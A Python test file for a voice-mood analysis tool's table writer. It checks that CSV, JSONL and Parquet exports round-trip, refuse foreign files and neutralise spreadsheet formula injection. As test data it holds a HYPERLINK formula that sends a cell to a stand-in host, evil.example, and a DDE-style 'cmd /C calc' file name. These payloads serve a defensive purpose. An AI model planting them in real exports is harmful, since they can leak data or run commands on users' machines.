"""Tables of analyses: what is written can be read again, by us, by a spreadsheet and by nobody's formula."""

import csv
from datetime import UTC, datetime
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from voxmood import Sentence
from voxmood.files import recorded
from voxmood.table import COLUMNS, Row, TableError, read, write

FORMATS = [".csv", ".jsonl", ".parquet"]
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def row(path: str = "anna/a.ogg", **more: object) -> Row:
    known = {
        "path": path,
        "speaker": "anna",
        "recorded": datetime(2026, 3, 4, 12, 33, 5),
        "size": 16837,
        "modified": datetime(2026, 3, 4, 11, 33, 5, 123457, UTC),
    }
    return Row.model_validate(known | more)


def analysed(path: str, text: str) -> Row:
    sentence = Sentence(text=text, start=0.0, end=1.82, verdict="negative", confidence=0.7234, score=-0.6593)
    return row(
        path,
        duration=6.2,
        language="ru",
        verdict="negative",
        confidence=0.9245,
        hard_to_say=False,
        score=-0.8757,
        transcript=text,
        sentences=[sentence, sentence],
        warnings=["truncated"],
    )


@pytest.mark.parametrize("suffix", FORMATS)
def test_what_is_written_is_read_again(tmp_path: Path, suffix: str) -> None:
    rows = [
        analysed('анна/привет, "мир".ogg', "Всё пропало! 😟\r\nСовсем;\t=1"),
        analysed("=cmd|' /C calc'!A0.ogg", HOSTILE),
        analysed("'=quoted.ogg", "'=1+1"),
        row("silent.ogg", speaker=None, hard_to_say=False, duration=2.0),
        row("broken.ogg", problem="not_audio", detail="this is not audio: send a recording"),
    ]
    write(tmp_path / f"moods{suffix}", rows)
    assert read(tmp_path / f"moods{suffix}") == rows
    assert [path.name for path in tmp_path.iterdir()] == [f"moods{suffix}"], "nothing else is left behind"


@given(st.text(st.characters(exclude_categories=["Cs"]) | st.sampled_from("'=+-@;,\t\r\n\"")))
def test_any_text_survives_a_csv(tmp_path_factory: pytest.TempPathFactory, text: str) -> None:
    path = tmp_path_factory.mktemp("csv") / "moods.csv"
    write(path, [row(transcript=text or None)])
    assert read(path)[0].transcript == (text or None)


@pytest.mark.parametrize("separator", [",", ";", "\t"])
def test_no_cell_is_a_formula_whatever_the_spreadsheet_takes_for_separators(tmp_path: Path, separator: str) -> None:
    texts = [HOSTILE, "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "hello;=1+1", "hello\t=1+1", "hello\n=1+1", "'=1", "＝1"]
    write(tmp_path / "moods.csv", [analysed(f"{text[:5]}.ogg", text) for text in texts])
    with (tmp_path / "moods.csv").open(encoding="utf-8-sig", newline="") as file:
        cells = [cell for line in csv.reader(file, delimiter=separator) for cell in line]
    words = [
        cell for cell in cells if not cell.replace(".", "").lstrip("-").isdigit()
    ]  # our own numbers may be negative
    assert len(words) > len(texts)
    assert [cell for cell in words if cell.startswith(("=", "+", "-", "@", "\t", "\r", "＝"))] == []


def test_other_programs_read_the_tables(tmp_path: Path) -> None:
    rows = [analysed("анна/a.ogg", "Всё пропало!"), row("broken.ogg", problem="not_audio")]
    write(tmp_path / "moods.csv", rows)
    write(tmp_path / "moods.parquet", rows)
    assert (tmp_path / "moods.csv").read_bytes().startswith(b"\xef\xbb\xbf"), "Excel takes it for UTF-8"
    for frame in (pd.read_csv(tmp_path / "moods.csv"), pd.read_parquet(tmp_path / "moods.parquet")):
        assert list(frame.columns) == COLUMNS
        assert list(frame["path"]) == ["анна/a.ogg", "broken.ogg"]
        assert frame["score"].mean() == pytest.approx(-0.8757)
    (first, _) = pd.read_parquet(tmp_path / "moods.parquet")["sentences"]
    assert first[0]["text"] == "Всё пропало!"


@pytest.mark.parametrize("suffix", FORMATS)
def test_what_is_not_ours_is_refused(tmp_path: Path, suffix: str) -> None:
    path = tmp_path / f"letters{suffix}"
    write(path, [analysed("a.ogg", "Fine.")])
    whole = path.read_bytes()
    for content in (b"name,phone\r\nAnna,1\r\n", b'{"name": "Anna"}\n', b"PAR1\x00\x00PAR1", whole[:-9], b"\xff\xfe"):
        path.write_bytes(content)
        with pytest.raises(TableError, match="something else than results"):
            read(path)
    path.write_bytes(b"")
    assert read(path) == []


def test_names_that_are_no_tables_are_refused(tmp_path: Path) -> None:
    for path in (tmp_path / "moods.xlsx", tmp_path / "moods", tmp_path / "nowhere" / "moods.csv"):
        with pytest.raises(TableError):
            write(path, [])


@pytest.mark.parametrize(
    ("name", "when"),
    [
        ("PTT-20260304-WA0007.opus", datetime(2026, 3, 4)),
        ("2026-03-04 call with Anna.m4a", datetime(2026, 3, 4)),
        ("20260304_123305.m4a", datetime(2026, 3, 4, 12, 33, 5)),
        ("audio_1@04-03-2026_12-33-05.ogg", datetime(2026, 3, 4, 12, 33, 5)),
        ("voice 20261341.ogg", datetime.fromtimestamp(0)),
        ("call 120260304.ogg", datetime.fromtimestamp(0)),
        ("hello.ogg", datetime.fromtimestamp(0)),
    ],
)
def test_when_a_recording_was_made(name: str, when: datetime) -> None:
    assert recorded(name, 0.5) == when
